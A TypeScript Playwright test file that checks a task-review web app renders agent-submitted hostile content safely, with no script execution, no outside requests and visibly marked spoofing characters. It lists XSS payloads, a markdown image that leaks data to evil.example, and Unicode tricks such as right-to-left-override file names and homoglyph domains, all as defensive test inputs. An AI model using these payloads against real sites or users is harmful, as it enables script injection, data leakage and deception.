import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { JsonObject, Task } from "../src/api/types";
import { launch, open, review, type Watched } from "./browser";
import { TestServer } from "./server";

// What an agent under another's control could send: markup in every place, addresses that would phone home, characters that
// lie about the text around them.
const MARKUP = [
  "<script>alert(1)</script>",
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  "<svg onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '"><body onload=alert(1)>',
  "<a href=javascript:alert(1)>press</a>",
  "<style>@import url(https://evil.example/x.css);</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "javascript:alert(1)",
];
const MARKDOWN = [
  "![leak](https://evil.example/leak.png?data=secret)",
  "[press](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)",
  "[ref]\n\n[ref]: https://evil.example/ref 'title'",
  "<https://evil.example/auto>",
  "[//]: # (hidden from the reader)",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
];
const LYING = [
  "invoice_\u202efdp.exe",
  "access\u2066 // admin \u2069\u2066begin",
  "pay\u200bpal\u2060.com",
  "\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}hello",
  "раypal.com",
  "a\u0001b\u001b[2Jc\u0085d",
  "ok\ufe00\u{e0100}",
];

const corpus = [...MARKUP, ...MARKDOWN, ...LYING];
const everywhere: JsonObject = Object.fromEntries(corpus.map((text, index) => [`${text.slice(0, 60)} ${index}`, text]));

let server: TestServer;
let browser: Browser;
let watched: Watched;
let task: Task;
let offered: Task;
beforeAll(async () => {
  [server, browser] = await Promise.all([TestServer.ready(), launch()]);
  const markup = MARKUP[0] ?? "";
  await server.queue("email", "approval", {
    allow_edits: true,
    description: markup,
    instructions: corpus.join("\n\n"),
  });
  await server.queue("match", "multiple_choice");
  await server.queue("offers", "approval", {
    assignment: "round_robin",
    stages: [
      { key: "first", name: markup, actor: "people", when: `task.data.text != "${MARKUP[8]}"`, blind: false },
      { key: "second", name: MARKUP[5], actor: "people" },
    ],
  });
  offered = await server.submit({ queue_key: "offers", summary: `${MARKUP[3]} ${LYING[0]}`, data: { text: "x" } });
  task = await server.submit({
    queue_key: "email",
    summary: `${MARKUP[1]} ${LYING[0]}`,
    external_id: MARKUP[4] ?? "",
    data: { ...everywhere, list: corpus, nested: { everywhere } },
    context: everywhere,
    metadata: { note: MARKUP[2] },
  });
  await server.agent("POST", `/v1/task/${task.id}/comment`, { body: corpus.join("\n\n") });
  watched = await open(browser, server);
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

describe("hostile content", () => {
  it("runs nowhere and asks nothing of another origin, on every screen that shows it", async () => {
    const { page, foreign, dialogs, complaints } = watched;
    const choice = await server.submit({
      queue_key: "match",
      data: everywhere,
      choices: corpus.map((text, index) => ({
        key: `k${index}`,
        label: text.replace(/[\p{Cc}]/gu, "").slice(0, 200),
        description: text,
        data: { text },
      })),
    });
    for (const path of [
      "/app/",
      "/app/queue/email",
      "/app/task",
      `/app/task/${task.id}`,
      `/app/task/${task.id}?view=markdown`,
      `/app/task/${task.id}?view=json`,
      `/app/task/${task.id}?tab=comments`,
      `/app/task/${task.id}?tab=history`,
      `/app/review?task=${task.id}`,
      `/app/review?task=${task.id}&view=markdown`,
      `/app/review?task=${choice.id}&view=markdown`,
      "/app/queue/email/edit",
      "/app/queue/offers/rules",
      `/app/task/${offered.id}?tab=why`,
      `/app/task/${offered.id}?tab=history`,
      `/app/review?task=${offered.id}`,
    ]) {
      await page.goto(server.base + path);
      await page.waitForTimeout(800);
      for (const details of await page.locator("summary").all()) await details.click();
    }
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it("is boxed in an offer as everywhere", async () => {
    const { page } = watched;
    const other = await server.submit({ queue_key: "offers", summary: `offered ${LYING[0]}`, data: { text: "y" } });
    await page.goto(`${server.base}/app/`);
    const offer = page
      .getByRole("region", { name: "Offered to you" })
      .getByRole("listitem")
      .filter({ hasText: "offered" });
    await offer.waitFor();
    expect(await offer.innerText()).not.toContain("\u202e");
    await server.agent("POST", `/v1/task/${other.id}/cancel`, {});
  });

  it("shows every lying character as what it is, in text, JSON and Markdown", async () => {
    const { page } = watched;
    for (const view of ["text", "json", "markdown"]) {
      await page.goto(`${server.base}/app/task/${task.id}?view=${view}`);
      await page.locator(".mark").first().waitFor();
      const marks = new Set(await page.locator("#task-panel .mark").allInnerTexts());
      for (const label of [
        "U+202E",
        "U+2066",
        "U+200B",
        "U+2060",
        "U+E0049",
        "U+001B",
        "U+0085",
        "U+FE00",
        "U+E0100",
        "Latin and Cyrillic",
      ]) {
        expect(marks, `${label} in ${view}`).toContain(label);
      }
      const raw = await page
        .locator("#task-panel")
        .evaluate((panel) => /[\u200b\u202a-\u202e\u2066-\u2069]/.test(panel.textContent ?? ""));
      expect(raw, view).toBe(false);
    }
  });

  it("loses nothing: what the JSON view shows reads back as what was sent", async () => {
    const { page } = watched;
    const sent = (await server.task(task.id)).data;
    await page.goto(`${server.base}/app/task/${task.id}?view=json`);
    const shown = await page.getByLabel("Content", { exact: true }).evaluate((tree) => {
      const read = (node: Node): string => {
        if (node instanceof Element && node.matches(".mark")) {
          const character = (node as HTMLElement).dataset.character;
          return character === undefined ? "" : String.fromCodePoint(Number.parseInt(character.slice(2), 16));
        }
        if (node instanceof Text) return node.data;
        return [...node.childNodes].map(read).join("");
      };
      return read(tree);
    });
    const strings: string[] = [];
    const collect = (value: unknown): void => {
      if (typeof value === "string") strings.push(value);
      else if (typeof value === "object" && value !== null) {
        for (const [key, child] of Object.entries(value)) {
          if (!Array.isArray(value)) strings.push(key);
          collect(child);
        }
      }
    };
    collect(sent);
    for (const text of strings) expect(shown).toContain(`"${text}"`);
  });

  it("opens links in a new page without telling where from, and shows where they lead", async () => {
    const { page } = watched;
    await page.goto(`${server.base}/app/task/${task.id}?tab=comments`);
    const links = page.locator(".md a");
    await links.first().waitFor();
    for (const link of await links.all()) {
      expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
      expect(await link.innerText()).toContain(`[${await link.evaluate((a) => (a as HTMLAnchorElement).href)}]`);
    }
  });

  it("cannot be approved while a part is folded, and the reason is said", async () => {
    const { page } = watched;
    const big = await server.submit({
      queue_key: "email",
      summary: "Very large",
      data: {
        rows: Array.from({ length: 40 }, (_, group) => ({
          group,
          cells: Array.from({ length: 120 }, (_, cell) => cell),
        })),
      },
    });
    await review(page, server, big);
    await page.locator(".panel__bar", { hasText: "parts of the content are folded" }).waitFor();
    await page.keyboard.press("a");
    await page.waitForTimeout(300);
    expect((await server.task(big.id)).state).toBe("queued");
    expect(await page.getByRole("button", { name: "Approve" }).getAttribute("aria-disabled")).toBe("true");
    await page.keyboard.press("u");
    await page.locator(".panel__bar", { hasText: "parts of the content are folded" }).waitFor({ state: "hidden" });
    expect(await page.getByRole("button", { name: "Approve" }).getAttribute("aria-disabled")).toBeNull();
  });
});
